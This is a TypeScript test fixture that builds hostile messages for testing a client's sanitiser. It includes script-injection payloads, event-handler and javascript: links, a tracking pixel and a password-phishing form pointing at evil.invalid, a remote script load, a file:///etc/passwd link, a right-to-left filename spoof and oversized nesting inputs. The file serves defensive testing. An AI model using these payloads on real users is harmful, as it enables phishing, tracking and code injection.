/** Messages that try to be more than text. */

export const hostileTexts = [
  'script',
  'handler',
  'beacon',
  'frame',
  'form',
  'style',
  'link',
  'svg',
  'bidi',
  'nested',
  'endless',
  'entities',
  'broken-plain',
] as const;

export type HostileText = (typeof hostileTexts)[number];

const DEPTH = 20_000;
const LENGTH = 1_000_000;

const html: Readonly<Record<HostileText, () => string>> = {
  script: () => '<b>Hello</b><script>document.title="taken"</script><script src="https://evil.invalid/x.js"></script>',
  handler: () =>
    '<img src="x" onerror="document.title=\'taken\'"><a href="#" onclick="document.title=\'taken\'">here</a>',
  beacon: () => '<img src="https://evil.invalid/seen?who=you" width="1" height="1">Hello',
  frame: () => '<iframe src="https://evil.invalid/"></iframe><object data="https://evil.invalid/"></object>Hello',
  form: () =>
    '<form action="https://evil.invalid/"><input name="password" type="password"><button>Sign in again</button></form>',
  style: () =>
    '<style>*{display:none}</style><div style="position:fixed;inset:0;background:url(https://evil.invalid/b)">Hello</div>',
  link: () => '<a href="javascript:document.title=\'taken\'">the minutes</a> <a href="file:///etc/passwd">the plan</a>',
  svg: () => '<svg onload="document.title=\'taken\'"><foreignObject><b>Hello</b></foreignObject></svg>',
  bidi: () => 'Open report\u202Efdp.exe',
  nested: () => `${'<b>'.repeat(DEPTH)}Hello${'</b>'.repeat(DEPTH)}`,
  endless: () => `<b>Hello</b> ${'and on '.repeat(LENGTH / 7)}`,
  entities: () => '&lt;script&gt;document.title="taken"&lt;/script&gt; &#60;b&#62; &#0; &#x110000; &nosuch;',
  'broken-plain': () => 'Hello \u0000\u0008\uFFFE\u001b[2J world',
};

/** Type and text of such a message. */
export function hostileText(kind: HostileText): { readonly type: string; readonly text: string } {
  const type = kind === 'bidi' || kind === 'broken-plain' ? 'text/plain; charset=UTF-8' : 'text/html; charset=UTF-8';
  return { type, text: html[kind]() };
}
